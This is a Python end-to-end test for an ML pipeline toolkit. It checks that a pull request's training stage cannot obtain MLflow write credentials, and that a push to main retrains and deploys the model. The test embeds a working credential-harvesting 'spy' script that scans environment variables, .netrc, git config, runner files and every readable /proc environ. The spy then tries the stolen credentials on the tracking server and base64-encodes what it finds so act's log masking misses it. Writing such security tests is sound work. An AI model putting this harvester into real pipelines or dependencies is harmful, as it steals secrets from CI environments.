"""Under act, issue 13's promise end to end, against the production-shaped stack (`backend_stack`, issue 17): a
basic-auth tracking server keeping its runs and users in PostgreSQL and its artifacts in an S3-compatible bucket:

- a pull request whose DVC stage (the adopter's code, or a compromised dependency of it) looks for any MLflow
  credential in its environment, in the usual files and in every process environment it can read, and tries to
  create a run on the tracking server with whatever it finds, run through ml-pipeline with the tracking URI, the
  read-only and the writing credentials as secrets: it finds none, and the server holds no run, version or alias
  from it;
- then a push to the default branch retrains (it does not reuse a forged run that carries the same cache key,
  tagged as a pull request's would be), registers the new version, builds and pushes the image, deploys it
  through canary-deploy (a first deploy: the model read from the registry with the writer, its files from the
  bucket through the server, verified by digest, served behind the router; the canary's analysis under traffic
  on this stack is make demo's, its verdicts the canary e2e's) and promotes it. The pull request adds nothing to
  the bucket; the push's model files are objects there, under its run, uploaded through the server (the jobs
  hold no storage credential: the server proxies the artifacts).
"""

from __future__ import annotations

import base64
import json
import re
import textwrap
import uuid
from pathlib import Path

import pytest

from leanops import cli
from leanops.tools.harness import REGISTRY, ActRun, ensure_base_image

from ..api_recorder import Recorder
from ..conftest import free_port, make_repo
from ..services import AuthServer, Stack
from ..unit.test_gh import parse_outputs
from .test_ml_pipeline import NUMBER, cleanup, deployable, predict, pull_request_event, push_event, scaffold

pytestmark = pytest.mark.e2e

# The adopter's stage turned hostile: what it finds goes to the log base64-encoded (act masks secret values,
# not their encodings), so the test sees any credential that reached it.
SPY = '''\
"""What a compromised dependency in the training stage would try: find a tracking credential, write with it."""
import base64, json, os, pathlib, re, urllib.error, urllib.request

URI = {uri!r}  # the attacker knows where the server is; the credential is what it lacks
NAMES = re.compile(r"^(MLFLOW_TRACKING_URI|MLFLOW_\\w*(USERNAME|PASSWORD|TOKEN|AUTH\\w*)"
                   r"|\\w*(PASSWORD|TOKEN|SECRET)\\w*)$")
CREDENTIAL = re.compile(r"MLFLOW_|password|extraheader|authorization|machine ", re.I)
found = {{}}
for key, value in os.environ.items():
    if NAMES.match(key) and value:
        found["env:" + key] = value
home = pathlib.Path.home()
files = [home / ".mlflow" / "credentials", home / ".netrc", pathlib.Path(".git") / "config",
         pathlib.Path("/root/.mlflow/credentials"), pathlib.Path("/root/.netrc")]
files += [pathlib.Path(os.environ[n]) for n in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STATE", "GITHUB_PATH")
          if os.environ.get(n)]
# the runner's own files of this job: act's step scripts and env files, the top of RUNNER_TEMP
for folder in ("/var/run/act/workflow", "/var/run/act", os.environ.get("RUNNER_TEMP", "")):
    if folder and pathlib.Path(folder).is_dir():
        files += [p for p in pathlib.Path(folder).iterdir() if p.is_file()]
for path in files:
    try:
        text = path.read_text(errors="replace")
    except OSError:
        continue
    for line in text.splitlines():
        if CREDENTIAL.search(line):
            found[f"file:{{path}}"] = line
procs = 0
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        pairs = path.read_bytes().decode(errors="replace").split("\\0")
    except OSError:
        continue
    procs += 1
    for pair in pairs:
        key, _, value = pair.partition("=")
        if NAMES.match(key) and value:
            found[f"{{path}}:{{key}}"] = value
users = sorted({{v for k, v in found.items() if k.endswith(("USERNAME",))}})
passwords = sorted({{v for k, v in found.items() if k.endswith(("PASSWORD",))}})
tokens = sorted({{v for k, v in found.items() if k.endswith("TOKEN")}})
attempts = [None] + [("Basic", f"{{u}}:{{p}}") for u in users for p in passwords] + [("Bearer", t) for t in tokens]
statuses = []
for auth in attempts:
    headers = {{"Content-Type": "application/json"}}
    if auth:
        cred = auth[1] if auth[0] == "Bearer" else base64.b64encode(auth[1].encode()).decode()
        headers["Authorization"] = f"{{auth[0]}} {{cred}}"
    for endpoint, body in (("experiments/create", {{"name": "spy-" + os.environ.get("GITHUB_EVENT_NAME", "")}}),
                           ("runs/create", {{"experiment_id": "0"}})):
        req = urllib.request.Request(f"{{URI}}/api/2.0/mlflow/{{endpoint}}", data=json.dumps(body).encode(),
                                     headers=headers, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                statuses.append(resp.status)
        except urllib.error.HTTPError as exc:
            statuses.append(exc.code)
        except OSError as exc:
            statuses.append(type(exc).__name__)
report = {{"event": os.environ.get("GITHUB_EVENT_NAME", ""), "statuses": statuses, "procs": procs,
          "files": len(files),
          "found": {{k: base64.b64encode(v.encode()).decode() for k, v in found.items()}}}}
print("LEANOPS-SPY " + json.dumps(report), flush=True)
'''


def spy_reports(out: str) -> list[dict]:
    return [json.loads(m) for m in re.findall(r"LEANOPS-SPY (\{.*\})", out)]


CREDENTIAL_NAME = re.compile(r"MLFLOW_\w*(USERNAME|PASSWORD|TOKEN)")


def mlflow_found(report: dict, server: AuthServer) -> dict[str, str]:
    """What the spy found that is a tracking credential: a variable or line naming one, any of the users'
    passwords, or the server's address (decoded)."""
    decoded = {k: base64.b64decode(v).decode() for k, v in report["found"].items()}
    values = (server.writer.password, server.reader.password, server.admin.password, server.uri)
    return {k: v for k, v in decoded.items()
            if CREDENTIAL_NAME.search(k) or CREDENTIAL_NAME.search(v) or any(x in v for x in values)}


def forge(server: AuthServer, model: str, key: str) -> tuple[str, str]:
    """A finished run with this state's cache key, tagged as an untrusted run, and a version of it: what a pull
    request holding a write credential could have left (the admin writes it here). Returns (run id, experiment)."""
    exp = server.share(model)
    run = server.admin_call("POST", "2.0/mlflow/runs/create", {
        "experiment_id": exp, "run_name": "forged",
        "tags": [{"key": "leanops.cache_key", "value": key}, {"key": "leanops.model_name", "value": model},
                 {"key": "leanops.trusted", "value": "false"}, {"key": "leanops.trained", "value": "true"}]})
    run_id = str(run["run"]["info"]["run_id"])  # type: ignore[index]
    server.admin_call("POST", "2.0/mlflow/runs/log-metric",
                      {"run_id": run_id, "key": "roc_auc", "value": 0.99, "timestamp": 0, "step": 0})
    server.admin_call("POST", "2.0/mlflow/runs/update", {"run_id": run_id, "status": "FINISHED"})
    server.admin_call("POST", "2.0/mlflow/model-versions/create",
                      {"name": model, "source": f"runs:/{run_id}/model", "run_id": run_id})
    return run_id, exp


def runs(server: AuthServer) -> list[dict]:
    """Every run on the server except other tests' (the stack is shared by the session): Default's and the
    experiments of this test's models (trust-*) or of the spy (spy-*)."""
    ids = [e["experiment_id"] for e in experiments(server)]
    found = server.admin_call("POST", "2.0/mlflow/runs/search", {"experiment_ids": ids, "max_results": 1000,
                                                                   "run_view_type": "ALL"})
    return list(found.get("runs") or [])  # type: ignore[arg-type]


def experiments(server: AuthServer) -> list[dict]:
    found = server.admin_call("POST", "2.0/mlflow/experiments/search", {"max_results": 1000, "view_type": "ALL"})
    return [e for e in found.get("experiments") or []  # type: ignore[union-attr]
            if e["name"] == "Default" or e["name"].startswith(("trust-", "spy-"))]


def versions(server: AuthServer, model: str) -> list[dict]:
    found = server.admin_call("GET", "2.0/mlflow/model-versions/search", {"filter": f"name = '{model}'"})
    return sorted(found.get("model_versions") or [], key=lambda v: int(v["version"]))  # type: ignore[arg-type]


def aliases(server: AuthServer, model: str) -> dict[str, str]:
    found = server.admin_call("GET", "2.0/mlflow/registered-models/get", {"name": model})
    return {a["alias"]: str(a["version"]) for a in found["registered_model"].get("aliases") or []}  # type: ignore


def cache_key(repo: Path, full_name: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> str:
    """The cache key train-with-cache computes for this state (what the workflow's jobs will compute)."""
    outputs = tmp_path / "key-outputs"
    outputs.write_text("")
    with monkeypatch.context() as m:
        m.setenv("GITHUB_REPOSITORY", full_name)
        m.setenv("GITHUB_WORKSPACE", str(repo))  # the key's prefix names the repository and the folder in it
        m.setenv("GITHUB_OUTPUT", str(outputs))
        for name in ("MLFLOW_TRACKING_URI", "GITHUB_EVENT_NAME"):
            m.delenv(name, raising=False)
        assert cli.main(["train-with-cache", "key", "--working-directory", str(repo)]) == 0
    return parse_outputs(outputs.read_text())["cache-key"]


def test_a_pull_request_cannot_write_and_the_push_to_main_retrains_and_deploys(
        harness, backend_stack: Stack, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    server = backend_stack.mlflow
    base = ensure_base_image()
    model = f"trust-{uuid.uuid4().hex[:8]}"
    files = scaffold(tmp_path / "scaffold", model=model)
    files["src/spy.py"] = SPY.format(uri=server.uri)
    main = '\nif __name__ == "__main__":'
    assert main in files["src/train.py"]
    files["src/train.py"] = files["src/train.py"].replace(main, textwrap.dedent("""
        # the e2e's hostile dependency, imported with the stage
        import runpy as _runpy  # noqa: E402
        _runpy.run_path(str(Path(__file__).with_name("spy.py")))

        """) + main, 1)
    port = free_port()
    files = deployable(files, "leanops.yml", base, port)
    name = f"example/{model}"
    repo = make_repo(tmp_path / "repo", files, origin=f"https://github.com/{name}.git")
    key = cache_key(repo, name, monkeypatch, tmp_path)
    forged, exp = forge(server, model, key)
    before = {r["info"]["run_id"] for r in runs(server)}
    assert before == {forged}
    bucket = set(backend_stack.store.keys(backend_stack.bucket))
    secrets = {"GITHUB_TOKEN": "ghs_e2e_token", "MLFLOW_TRACKING_URI": server.uri,
               "MLFLOW_READ_USERNAME": server.reader.username, "MLFLOW_READ_PASSWORD": server.reader.password,
               "MLFLOW_TRACKING_USERNAME": server.writer.username,
               "MLFLOW_TRACKING_PASSWORD": server.writer.password}
    try:
        # 1: the pull request
        with Recorder() as rec:
            rec.fake.add_pull_request(NUMBER)
            run = ActRun(repo=repo, event="pull_request", workflow=".github/workflows/ml-pipeline.yml",
                         event_file=pull_request_event(tmp_path / "pr.json", name), env={"GITHUB_API_URL": rec.url},
                         secrets=secrets)
            res = harness.run(run, log=tmp_path / "act-pr.log")
            out = res.stdout + res.stderr
        assert res.returncode == 0, out[-8000:]
        assert "ml-pipeline: tracking=embedded deploy=false" in out
        assert "Running stage 'train'" in out, out[-8000:]
        assert f"cache key {key}" in out, out[-8000:]  # the forged run carries this state's key exactly
        reports = spy_reports(out)
        assert [r["event"] for r in reports] == ["pull_request"], out[-8000:]
        pr = reports[0]
        # no MLflow credential anywhere the stage could look, and every write it tried was refused unauthenticated
        assert mlflow_found(pr, server) == {}, pr
        assert pr["procs"] >= 2 and pr["files"] >= 2, pr  # it did look: its own and its parents' environments
        assert len(pr["statuses"]) >= 2 and set(pr["statuses"]) == {401}, pr
        # and on the server: nothing from the pull request
        assert {r["info"]["run_id"] for r in runs(server)} == {forged}
        assert {e["name"] for e in experiments(server)} == {"Default", model}
        assert [v["run_id"] for v in versions(server, model)] == [forged]
        assert aliases(server, model) == {}
        assert set(backend_stack.store.keys(backend_stack.bucket)) == bucket  # nor in the object store

        # 2: the push to the default branch
        run = ActRun(repo=repo, event="push", workflow=".github/workflows/ml-pipeline.yml",
                     event_file=push_event(tmp_path / "push.json", name), secrets=secrets)
        res = harness.run(run, log=tmp_path / "act-push.log")
        out = res.stdout + res.stderr
        assert res.returncode == 0, out[-10000:]
        assert "ml-pipeline: tracking=server deploy=true" in out
        # retrained: the forged run with the same cache key was not reused
        assert "Running stage 'train'" in out, out[-10000:]
        assert f"run {forged} was trained from this same state" not in out
        assert "gate-metrics: 2 gates passed" in out
        image = re.search(rf"{re.escape(REGISTRY)}/leanops-tests/{model}@sha256:[0-9a-f]{{64}}", out)
        assert image, out[-10000:]
        assert "first deploy: started as the stable without analysis" in out, out[-10000:]
        assert "alias champion -> version 2" in out, out[-10000:]
        assert predict(port) == 200  # the model the canary job read through the stack serves behind its router
        listed = versions(server, model)
        assert [v["version"] for v in listed] == ["1", "2"]
        trusted_run = listed[1]["run_id"]
        assert trusted_run != forged
        tags = {t["key"]: t["value"] for t in listed[1].get("tags") or []}
        assert len(tags["leanops.model_sha256"]) == 64 and tags["leanops.image"] == image.group(0)
        assert aliases(server, model) == {"challenger": "2", "champion": "2"}
        status, got = server.call(server.reader, "GET", "2.0/mlflow/runs/get", {"run_id": trusted_run})
        assert status == 200
        run_tags = {t["key"]: t["value"] for t in got["run"]["data"]["tags"]}  # type: ignore[index]
        assert run_tags["leanops.trusted"] == "true" and run_tags["leanops.cache_key"] == key
        # the run's files and the registered model's are objects in the bucket (PostgreSQL holds the rows): the
        # run's under its id, the model's under MLflow 3's logged-model id that the version's source names
        added = sorted(set(backend_stack.store.keys(backend_stack.bucket)) - bucket)
        assert any(k.startswith("mlflow/") and f"/{trusted_run}/artifacts/" in k for k in added), added
        logged = re.search(r"m-[0-9a-f]{32}", str(listed[1].get("source", "")))
        assert logged and any(k.endswith(f"/models/{logged.group(0)}/artifacts/MLmodel") for k in added), \
            (listed[1].get("source"), added)
        # what the trusted run's stage could see is reported, not asserted: on a trusted ref the stage is
        # reviewed code (docs/security.md); the kit still strips its own variables from the stage's environment
        push = [r for r in spy_reports(out) if r["event"] == "push"]
        print("spy on the push:", sorted(mlflow_found(push[0], server)) if push else "no report",
              push[0]["statuses"] if push else "")
    finally:
        cleanup(model)
